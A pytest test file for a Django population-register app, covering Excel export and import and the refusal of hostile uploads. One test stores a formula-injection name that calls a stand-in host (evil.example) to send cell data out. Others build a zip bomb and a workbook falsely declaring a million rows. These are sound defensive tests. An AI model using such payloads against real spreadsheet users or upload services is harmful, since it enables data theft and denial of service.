"""The register as a workbook: the export's shape, the round trip, and every bad upload refused."""

from __future__ import annotations

import io
import re
import tempfile
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from universalization import services, workbook
from universalization.exchange import COMMUNE_COLUMNS, PERSON_COLUMNS
from universalization.models import Household, Person, PersonAccess, RegisterImport
from universalization.services import RegisterRefused

YEAR = 2020
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def english(client):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    with translation.override("en"):
        yield


def export(client, code: str, **query) -> bytes:
    response = client.get(reverse("register:export", args=[code]), query)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    return b"".join(response.streaming_content)


def upload(content: bytes, name: str = "register.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=XLSX)


def build(communes: list[list], persons: list[list], *, header=PERSON_COLUMNS) -> bytes:
    """A workbook as a user might make one: two sheets, row 1 the column names."""
    wb = Workbook()
    wb.active.title = "communes"
    wb.active.append(list(COMMUNE_COLUMNS))
    for row in communes:
        wb.active.append(row)
    sheet = wb.create_sheet("persons")
    sheet.append(list(header))
    for row in persons:
        sheet.append(row)
    output = io.BytesIO()
    wb.save(output)
    return output.getvalue()


def person(commune: str, code: str, **values) -> list:
    row = {"commune_code": commune, "household_id": "HX", "person_id": code,
           "full_name": "Đinh Văn X", "sex": "M", "birth_year": 2010} | values  # fmt: skip
    return [row.get(column) for column in PERSON_COLUMNS]


A1 = ["C-A1", "D-A", "no"]


def snapshot() -> tuple:
    """What an import could change: persons, households and their history."""
    return (
        Person.objects.count(),
        Person.history.count(),
        Household.objects.count(),
        sorted(Person.objects.values_list("full_name", "version")),
    )


def load(content: bytes, actor, name: str = "register.xlsx"):
    """The job's road, in process: the workbook's sheets to exchange CSV, then the register."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / name
        path.write_bytes(content)
        sheets = Path(folder) / "sheets"
        sheets.mkdir()
        paths = workbook.workbook_to_csv(path, sheets, name)
        return services.load_register(*paths, year=YEAR, actor=actor)


# --- Export ---


def test_the_export_has_vietnamese_titles_hidden_keys_and_coded_values_as_labels(
    client, register, world
):
    client.force_login(world.users.commune_reporter)
    wb = load_workbook(io.BytesIO(export(client, "C-A1", year=YEAR)))
    assert wb.sheetnames == ["Xã", "Nhân khẩu", "hướng dẫn", "lists"]
    assert wb["lists"].sheet_state == "hidden"
    communes, persons = wb["Xã"], wb["Nhân khẩu"]
    assert [c.value for c in communes[1]][0] == "Mã xã"
    assert [c.value for c in communes[2]] == list(COMMUNE_COLUMNS)
    assert communes.row_dimensions[2].hidden and persons.row_dimensions[2].hidden
    assert [c.value for c in communes[3]] == ["C-A1", "D-A", "không"]
    assert [c.value for c in persons[2]] == list(PERSON_COLUMNS)
    assert persons.max_row == 42
    assert [c.value for c in persons[3]][:7] == ["C-A1", "H0", "P0", "Người 0", "nam", 2015,
                                                 "thường trú"]  # fmt: skip
    assert all(c.comment is not None for c in persons[1])
    lists = {
        str(v.sqref).split(":")[0]: v.formula1 for v in persons.data_validations.dataValidation
    }
    sheet, cells = lists["E3"].split("!")
    first, last = cells.replace("$", "").split(":")
    assert sheet == "'lists'"
    assert [row[0].value for row in wb["lists"][first:last]] == ["nam", "nữ"]
    instructions = wb["hướng dẫn"]
    assert "birth_year" in [c.value for c in instructions["C"]]
    access = PersonAccess.objects.get()
    assert (access.action, access.rows, access.unit.code) == ("export", 40, "C-A1")


def test_the_exported_register_prints_on_a4_with_its_titles_on_every_page(client, register, world):
    client.force_login(world.users.commune_reporter)
    wb = load_workbook(io.BytesIO(export(client, "C-A1", year=YEAR)))
    for ws in (wb["Xã"], wb["Nhân khẩu"], wb["hướng dẫn"]):
        assert str(ws.page_setup.paperSize) == "9" and ws.page_setup.orientation == "landscape"
        assert ws.sheet_properties.pageSetUpPr.fitToPage and int(ws.page_setup.fitToWidth) == 1
        assert ws.oddFooter.center.text.strip() == "Trang &P/&N"
        assert ws.oddHeader.left.text == "XÃ A1"  # the exchange format keeps row 1: the
        assert ws.oddHeader.right.text.startswith("Xuất ngày ")  # stamp is in the header
    assert wb["Nhân khẩu"].print_title_rows == "$1:$1"


def test_a_district_export_holds_its_communes_only(client, register, world):
    client.force_login(world.users.viewer)
    wb = load_workbook(io.BytesIO(export(client, "D-A", year=YEAR)), read_only=True)
    rows = list(wb["Xã"].values)[2:]
    assert rows == [("C-A1", "D-A", "không"), ("C-A2", "D-A", "có")]
    codes = {row[0] for row in list(wb["Nhân khẩu"].values)[2:]}
    assert codes == {"C-A1", "C-A2"}
    assert PersonAccess.objects.get().rows == 42


def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, register, world):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    Person.objects.filter(commune__code="C-A1", code="P0").update(full_name=hostile)
    client.force_login(world.users.commune_reporter)
    content = export(client, "C-A1", year=YEAR)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    cell = load_workbook(io.BytesIO(content))["Nhân khẩu"]["D3"]
    assert (cell.value, cell.data_type) == (hostile, "s")


def test_an_export_outside_the_scope_is_404_and_not_recorded(client, register, world):
    client.force_login(world.users.commune_reporter)
    for code in ("C-A2", "D-A", "C-B1"):
        assert client.get(reverse("register:export", args=[code])).status_code == 404
    assert not PersonAccess.objects.exists()


# --- Round trip ---


def start_import(client, capture, code: str, data: dict) -> RegisterImport:
    """Upload through the import page; the check runs (in-process) once the request ends."""
    with capture(execute=True):
        response = client.post(reverse("register:import", args=[code]), data)
    assert response.status_code == 302, getattr(response, "context", None)
    job = RegisterImport.objects.get(pk=response.url.rstrip("/").rsplit("/", 1)[1])
    assert response.url == reverse("register:import_job", args=[code, job.pk])
    return job


def confirm(client, capture, job: RegisterImport, action: str = "confirm") -> RegisterImport:
    url = reverse("register:import_confirm", args=[job.unit.code, job.pk])
    with capture(execute=True):
        assert client.post(url, {"action": action}).status_code == 302
    job.refresh_from_db()
    return job


def test_an_exported_register_imports_back_without_a_change(
    client, register, world, immediate_tasks, django_capture_on_commit_callbacks
):
    client.force_login(world.users.district_admin)
    content = export(client, "D-A", year=YEAR)
    before = snapshot()
    job = start_import(client, django_capture_on_commit_callbacks, "D-A",
                       {"year": YEAR, "workbook": upload(content)})  # fmt: skip
    job.refresh_from_db()
    assert job.status == "ready", job.errors
    summary = {
        c["code"]: (c["added"], c["changed"], c["unchanged"]) for c in job.preview["communes"]
    }
    assert summary == {"C-A1": (0, 0, 40), "C-A2": (0, 0, 2)}
    job = confirm(client, django_capture_on_commit_callbacks, job)
    assert job.status == "done"
    assert (job.result["created"], job.result["changed"], job.result["unchanged"]) == (0, 0, 42)
    assert snapshot() == before


def test_a_stored_name_beginning_with_equals_round_trips_unchanged(
    client, register, world, immediate_tasks, django_capture_on_commit_callbacks
):
    Person.objects.filter(commune__code="C-A1", code="P0").update(full_name="=1+1 Nguyễn")
    client.force_login(world.users.commune_reporter)
    content = export(client, "C-A1", year=YEAR)
    before = snapshot()
    result = load(content, world.users.commune_reporter)
    assert (result.created, result.changed, result.unchanged) == (0, 0, 40)
    assert snapshot() == before


def test_sex_and_coded_values_are_read_by_their_vietnamese_labels(register, world):
    content = build([["C-A1", "D-A", "không"]], [
        person("C-A1", "VN1", sex="nữ", residence="tạm trú", preschool_completed="có"),
        person("C-A1", "VN2", sex="Nam", residence="temporary", preschool_completed="no"),
    ])  # fmt: skip
    load(content, world.users.commune_reporter)
    read = {p.code: (p.sex, p.residence, p.preschool_completed)
            for p in Person.objects.filter(code__in=["VN1", "VN2"])}  # fmt: skip
    assert read == {"VN1": ("F", "temporary", True), "VN2": ("M", "temporary", False)}


def test_a_changed_workbook_updates_the_register_with_history(register, world):
    actor = world.users.commune_reporter
    content = build([A1], [person("C-A1", "P0", full_name="Tên mới", birth_year=2015.0)])
    result = load(content, actor)
    assert (result.created, result.changed) == (0, 1)
    changed = Person.objects.get(commune__code="C-A1", code="P0")
    assert (changed.full_name, changed.birth_year, changed.version) == ("Tên mới", 2015, 2)
    assert changed.history.latest().history_user == actor


def test_numbers_read_as_floats_become_whole_numbers(register, world):
    content = build([A1], [person("C-A1", "NEW", birth_year=2012.0, highest_grade_completed=2.0,
                                  preschool_completed=True)])  # fmt: skip
    load(content, world.users.commune_reporter)
    new = Person.objects.get(commune__code="C-A1", code="NEW")
    assert (new.birth_year, new.highest_grade_completed, new.preschool_completed) == (2012, 2, True)


def test_the_two_csv_files_import_as_well(
    client, register, world, immediate_tasks, django_capture_on_commit_callbacks
):
    client.force_login(world.users.commune_reporter)
    communes = "commune_code,district_code,disadvantaged\nC-A1,D-A,no\n"
    persons = ",".join(PERSON_COLUMNS) + "\nC-A1,H0,CSV1,Phạm Thị C,F,2011" + "," * 9 + "\n"
    job = start_import(client, django_capture_on_commit_callbacks, "C-A1", {
        "year": YEAR,
        "communes_csv": SimpleUploadedFile("xa.csv", communes.encode()),
        "persons_csv": SimpleUploadedFile("nguoi.csv", persons.encode()),
    })  # fmt: skip
    job.refresh_from_db()
    assert job.preview["communes"][0]["added"] == 1
    assert not Person.objects.filter(code="CSV1").exists()  # nothing before the confirmation
    assert confirm(client, django_capture_on_commit_callbacks, job).result["created"] == 1
    assert Person.objects.get(code="CSV1").full_name == "Phạm Thị C"


# --- Bad files: refused, nothing written ---


def zip_of(members: dict[str, bytes]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return output.getvalue()


def formula_workbook() -> bytes:
    return build([A1], [person("C-A1", "F1", birth_year="=2000+10")])


BAD_FILES = {
    "not a workbook": (lambda: b"\x00\x01 just bytes", "not an Excel workbook"),
    "a CSV renamed .xlsx": (
        lambda: b"commune_code,district_code,disadvantaged\nC-A1,D-A,no\n",
        "not an Excel workbook",
    ),
    "a zip that is not a workbook": (
        lambda: zip_of({"word/document.xml": b"<w/>"}),
        "cannot be read",
    ),
    "a workbook without the persons sheet": (
        lambda: _single_sheet(),
        "no sheet named “persons”",
    ),
    "an .ods spreadsheet": (
        lambda: zip_of(
            {
                "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                "content.xml": b"<office:document-content/>",
            }
        ),
        "not .xls or .ods",
    ),
    "an .xls workbook": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        "not .xls or .ods",
    ),
    "a sheet declaring a million rows": (lambda: declared_rows(1_000_000), "more than"),
    "a formula without a computed value": (formula_workbook, "formula without a computed value"),
    "wrong headers": (
        lambda: build([A1], [["C-A1", "H1", "X1"]], header=("commune", "household", "person")),
        "the header must be",
    ),
    "an unknown commune": (
        lambda: build([["C-ZZ", "D-A", "no"]], [person("C-ZZ", "Z1")]),
        "no unit has this code",
    ),
    "a commune outside the actor's scope": (
        lambda: build([A1, ["C-A2", "D-A", "no"]], [person("C-A2", "OUT")]),
        "outside your scope",
    ),
    "a birth year after the year": (
        lambda: build([A1], [person("C-A1", "B1", birth_year=YEAR + 1)]),
        "after the year",
    ),
}


def declared_rows(rows: int) -> bytes:
    """A small workbook whose persons sheet says it holds `rows` rows."""
    content = build([A1], [person("C-A1", "D1")])
    source, output = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet2.xml":
                data = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="A1:O{rows}"'.encode(),
                              data)  # fmt: skip
                assert f"A1:O{rows}".encode() in data
            target.writestr(item, data)
    return output.getvalue()


def _single_sheet() -> bytes:
    wb = Workbook()
    wb.active.title = "communes"
    output = io.BytesIO()
    wb.save(output)
    return output.getvalue()


@pytest.mark.parametrize("case", list(BAD_FILES))
def test_a_bad_file_is_refused_and_nothing_is_written(register, world, english, case):
    make, message = BAD_FILES[case]
    before = snapshot()
    with pytest.raises(RegisterRefused if case in _READER_CASES else workbook.WorkbookRefused) as e:
        load(make(), world.users.commune_reporter)
    assert any(message in error.message for error in e.value.errors), e.value.errors
    assert snapshot() == before


_READER_CASES = {
    "wrong headers",
    "an unknown commune",
    "a commune outside the actor's scope",
    "a birth year after the year",
}


def test_a_file_too_big_is_refused_before_it_is_read(register, world, english, monkeypatch):
    monkeypatch.setattr(workbook, "MAX_UPLOAD_BYTES", 1000)
    content = build([A1], [person("C-A1", f"N{n}") for n in range(50)])
    with pytest.raises(workbook.WorkbookRefused) as e:
        workbook.check_size(upload(content))  # what the upload's job checks first
    assert "larger than" in e.value.errors[0].message
    assert not Person.objects.filter(code="N1").exists()


def test_a_small_file_declaring_a_million_rows_is_refused_quickly_in_little_memory(
    register, world, english
):
    content = declared_rows(1_000_000)
    assert len(content) < 20_000
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(workbook.WorkbookRefused) as e:
        load(content, world.users.commune_reporter)
    elapsed = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert "more than 300000 rows" in e.value.errors[0].message
    assert elapsed < 5 and peak < 30 * 2**20, (elapsed, peak)


def test_rows_beyond_the_cap_are_refused_even_when_the_sheet_does_not_declare_them(
    register, world, english, monkeypatch
):
    monkeypatch.setattr(workbook, "MAX_ROWS", 5)
    content = build([A1], [person("C-A1", f"R{n}") for n in range(10)])
    with pytest.raises(workbook.WorkbookRefused) as e:
        load(content, world.users.commune_reporter)
    assert "more than 5 rows" in e.value.errors[0].message
    assert not Person.objects.filter(code="R1").exists()


def test_a_zip_bomb_is_refused_before_openpyxl_opens_it(register, world, english, monkeypatch):
    monkeypatch.setattr(workbook, "MAX_UNCOMPRESSED_BYTES", 1024 * 1024)
    bomb = zip_of({"[Content_Types].xml": b"<Types/>", "xl/filler.xml": b"0" * 2 * 1024 * 1024})
    assert len(bomb) < 50_000

    def never(*args, **kwargs):
        raise AssertionError("openpyxl must not open a zip bomb")

    monkeypatch.setattr(workbook, "load_workbook", never)
    before = snapshot()
    with pytest.raises(workbook.WorkbookRefused) as e:
        load(bomb, world.users.commune_reporter)
    assert "unpacks to more than" in e.value.errors[0].message
    assert snapshot() == before


def test_the_import_page_shows_each_error_in_a_table(
    client, register, world, english, immediate_tasks, django_capture_on_commit_callbacks
):
    client.force_login(world.users.commune_reporter)
    content = build([A1], [person("C-A1", "E1", sex="X", highest_grade_completed=14)])
    before = snapshot()
    job = start_import(client, django_capture_on_commit_callbacks, "C-A1",
                       {"year": YEAR, "workbook": upload(content)})  # fmt: skip
    job.refresh_from_db()
    assert job.status == "refused" and not job.folder
    assert [(e["place"], e["row"], e["column"]) for e in job.errors] == [
        ("persons", 2, "highest_grade_completed"),
        ("persons", 2, "sex"),
    ]
    response = client.get(reverse("register:import_job", args=["C-A1", job.pk]))
    html = response.content.decode()
    assert 'class="striped import-errors"' in html and "highest_grade_completed" in html
    assert "Confirm" not in html
    assert snapshot() == before


def test_the_import_needs_a_file(client, register, world, english):
    client.force_login(world.users.commune_reporter)
    response = client.post(reverse("register:import", args=["C-A1"]), {"year": YEAR})
    assert "Upload a workbook" in response.context["form"].non_field_errors()[0]


@pytest.mark.parametrize("role", ["viewer", "unit_reporter", "other_district"])
def test_only_users_who_enter_data_for_the_commune_may_import(client, register, world, role):
    client.force_login(getattr(world.users, role))
    content = build([A1], [person("C-A1", "NOPE")])
    response = client.post(
        reverse("register:import", args=["C-A1"]), {"year": YEAR, "workbook": upload(content)}
    )
    assert response.status_code == 404
    assert not Person.objects.filter(code="NOPE").exists()


def test_an_anonymous_upload_is_sent_to_the_login_page(client, register, world):
    content = build([A1], [person("C-A1", "ANON")])
    response = client.post(
        reverse("register:import", args=["C-A1"]), {"year": YEAR, "workbook": upload(content)}
    )
    assert response.status_code == 302 and response.url.startswith(reverse("login"))
    assert not Person.objects.filter(code="ANON").exists()
